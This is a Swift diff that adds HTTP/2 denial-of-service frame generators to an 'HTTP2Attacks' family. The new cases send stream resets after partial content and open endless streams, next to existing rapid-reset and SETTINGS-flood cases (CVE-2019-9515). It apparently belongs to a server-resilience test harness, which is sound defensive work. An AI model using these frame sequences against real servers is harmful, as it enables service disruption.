@@ -6,6 +6,15 @@ enum HTTP2Attacks: AttackFamily {
             return HTTP2Frame.head(.post, "/queries", stream: stream).bytes
                 + HTTP2Frame(kind: .resetStream, stream: stream, payload: [0, 0, 0, 8]).bytes
         },
+        frames("reset-with-content", "requests with a part of their content that are reset") { number in
+            let stream = UInt32(2 * number + 1)
+            return HTTP2Frame.head(.post, "/queries", stream: stream).bytes
+                + HTTP2Frame(kind: .data, stream: stream, payload: Array(repeating: 7, count: 4_000)).bytes
+                + HTTP2Frame(kind: .resetStream, stream: stream, payload: [0, 0, 0, 8]).bytes
+        },
+        frames("endless-streams", "ever new streams of requests that never end") { number in
+            HTTP2Frame.head(.post, "/queries", stream: UInt32(2 * number + 1)).bytes
+        },
         frames("settings", "SETTINGS that all want to be acknowledged (CVE-2019-9515)") { _ in
             HTTP2Frame.settings(4, 65_535).bytes
         },
